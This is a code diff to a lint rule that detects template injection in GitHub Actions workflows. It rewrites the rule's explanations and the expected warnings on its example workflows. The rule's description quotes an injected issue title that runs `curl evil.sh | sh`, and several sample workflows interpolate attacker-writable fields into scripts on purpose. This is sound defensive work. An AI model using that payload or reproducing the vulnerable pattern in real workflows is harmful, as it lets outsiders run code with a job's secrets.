@@ -29,7 +29,7 @@ export default workflowRule({
   category: 'security',
   severity: 'high',
   profile: 'recommended',
-  why: 'Expressions are put into a script before a shell reads it: a title such as `a"; curl evil.sh | sh; "` runs as part of it, with the job’s secrets.',
+  why: 'GitHub puts the value into the script before the shell runs it. An issue with the title `a"; curl evil.sh | sh; "` runs that command, with the secrets of the job.',
   equivalents: [
     'actionlint:expression',
     'zizmor:template-injection',
@@ -47,12 +47,12 @@ export default workflowRule({
         const read = reads.find((one) => one.grade === 'arbitrary') ?? reads[0];
         if (!read) continue;
         const name = `\`${read.through ? read.source : expression.written(read.reference.node)}\``;
-        const where = input.name === 'run' ? 'the script' : `\`${input.name}\``;
+        const where = input.name === 'run' ? 'the script' : `the code in \`${input.name}\``;
         report(
           expression.span,
           read.through
-            ? `\`${read.through.name}\` holds ${name}, which anyone can write, and is run as part of ${where}.`
-            : `${name} can be written by anyone and is run as part of ${where}.`,
+            ? `\`${read.through.name}\` holds ${name}, which anyone can write, and becomes part of ${where}.`
+            : `Anyone can write ${name}, and it becomes part of ${where}.`,
           severity(severityOf(read, file)),
           fix('unsafe', 'Pass it through an environment variable', () => moveToVariable(expression, input)),
         );
@@ -60,7 +60,8 @@ export default workflowRule({
     },
   },
 
-  fixSafety: 'A script that relied on the text being split into words, or on code in it, behaves differently.',
+  fixSafety:
+    'The value is now one argument, also when it is empty or has spaces. Do not use the fix where the value is meant to be several arguments or code.',
 
   examples: [
     {
@@ -74,9 +75,9 @@ export default workflowRule({
                 run: |
                   # says hello
                   echo "New: \${{ github.event.issue.title }}!"
-                             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` can be written by anyone and is run as part of the script.
+                             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
                   ./greet \${{ github.event.issue.title }}
-                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` can be written by anyone and is run as part of the script.
+                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
       `,
       good: yaml`
         on: issues
@@ -102,8 +103,8 @@ export default workflowRule({
             runs-on: ubuntu-24.04
             steps:
               - run: ./greet "\${{ github.event.pull_request.body }}" \${{ github.head_ref }}
-                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.pull_request.body\` can be written by anyone and is run as part of the script.
-                                                                     ^^^^^^^^^^^^^^^^^^^^^^ \`github.head_ref\` can be written by anyone and is run as part of the script.
+                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.pull_request.body\`, and it becomes part of the script.
+                                                                     ^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.head_ref\`, and it becomes part of the script.
                 env: { LANGUAGE: de }
       `,
       good: yaml`
@@ -125,7 +126,7 @@ export default workflowRule({
             runs-on: ubuntu-24.04
             steps:
               - run: git switch \${{ github.head_ref }}
-                                ^^^^^^^^^^^^^^^^^^^^^^ \`github.head_ref\` can be written by anyone and is run as part of the script.
+                                ^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.head_ref\`, and it becomes part of the script.
       `,
       good: yaml`
         on: pull_request
@@ -147,8 +148,8 @@ export default workflowRule({
             runs-on: ubuntu-24.04
             steps:
               - run: echo "\${{ github.event.comment.body }}" "\${{ env.COMMENT }}"
-                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.comment.body\` can be written by anyone and is run as part of the script.
-                                                              ^^^^^^^^^^^^^^^^^^ \`COMMENT\` holds \`github.event.comment.body\`, which anyone can write, and is run as part of the script.
+                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.comment.body\`, and it becomes part of the script.
+                                                              ^^^^^^^^^^^^^^^^^^ \`COMMENT\` holds \`github.event.comment.body\`, which anyone can write, and becomes part of the script.
       `,
       good: yaml`
         on: issue_comment
@@ -170,7 +171,7 @@ export default workflowRule({
             runs-on: windows-2025
             steps:
               - run: Write-Output "New \${{ github.event.issue.title }}" # here
-                                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` can be written by anyone and is run as part of the script.
+                                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
       `,
       good: yaml`
         on: issues
@@ -195,7 +196,7 @@ export default workflowRule({
                 with:
                   script: |
                     core.info(\`New: \${{ github.event.issue.title }}\`);
-                                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` can be written by anyone and is run as part of \`script\`.
+                                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the code in \`script\`.
       `,
       good: yaml`
         on: issues
@@ -220,9 +221,9 @@ export default workflowRule({
             runs-on: ubuntu-24.04
             steps:
               - run: echo '\${{ github.event.issue.title }}'
-                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` can be written by anyone and is run as part of the script.
+                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
               - run: print("\${{ github.event.issue.title }}")
-                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ \`github.event.issue.title\` can be written by anyone and is run as part of the script.
+                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ Anyone can write \`github.event.issue.title\`, and it becomes part of the script.
                 shell: python
       `,
     },
